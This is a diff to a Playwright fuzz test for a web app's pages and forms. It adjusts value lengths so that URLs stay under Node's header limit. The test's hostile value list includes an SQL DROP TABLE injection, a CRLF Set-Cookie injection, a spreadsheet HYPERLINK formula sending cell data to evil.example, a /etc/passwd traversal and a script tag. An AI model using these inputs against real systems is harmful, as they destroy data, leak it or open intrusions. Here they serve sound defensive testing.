@@ -7,24 +7,28 @@ import { expect, test, type APIRequestContext, type Page } from '@playwright/tes
  * in turn, the others as the page filled them.
  */
 
-/** Every value goes in every parameter at once, and into each form field in turn. */
+/**
+ * Every value goes into each form field in turn, and into every URL parameter at once (short
+ * enough that the whole URL stays under Node's 16 KB header limit, which answers 431).
+ */
 const HOSTILE = [
   'abc',
   '-1',
   '1.5',
   '1e400',
   '9'.repeat(40),
-  'x'.repeat(3000),
+  'x'.repeat(200),
   `'; DROP TABLE "User"; --`,
   'a\r\nSet-Cookie: x=1',
   '=HYPERLINK("http://evil.example/?x="&A1,"Clique")',
-  '\u3000\u2014 ação',
-  '../../etc/passwd',
-  '<script>alert(1)</script>',
+  '\u3000\u2014 ação ../../etc/passwd <script>',
 ]
 
+/** Form fields also get a long text (bodies have no such limit). */
+const HOSTILE_FIELD = [...HOSTILE, 'x'.repeat(5000)]
+
 /** What each parameter also gets alone, so one parameter's refusal cannot hide another's. */
-const HOSTILE_ALONE = ['abc', `${'x'.repeat(300)}\r\n\u3000\u2014"'=;%`]
+const HOSTILE_ALONE = ['abc', `${'x'.repeat(3000)}\r\n\u3000\u2014"'=;%`]
 
 /** Every query parameter a loader reads somewhere, tried on every page. */
 const PARAMS = [
@@ -155,7 +159,7 @@ async function fuzzPage(page: Page, url: string, failures: string[], seen: Set<s
       }),
     )
     for (const field of form.fields) {
-      for (const value of HOSTILE) {
+      for (const value of HOSTILE_FIELD) {
         const what = `POST ${action} ${field.name}=${describeValue(value)}`
         const values = form.fields.map((f) => ({
           name: f.name,
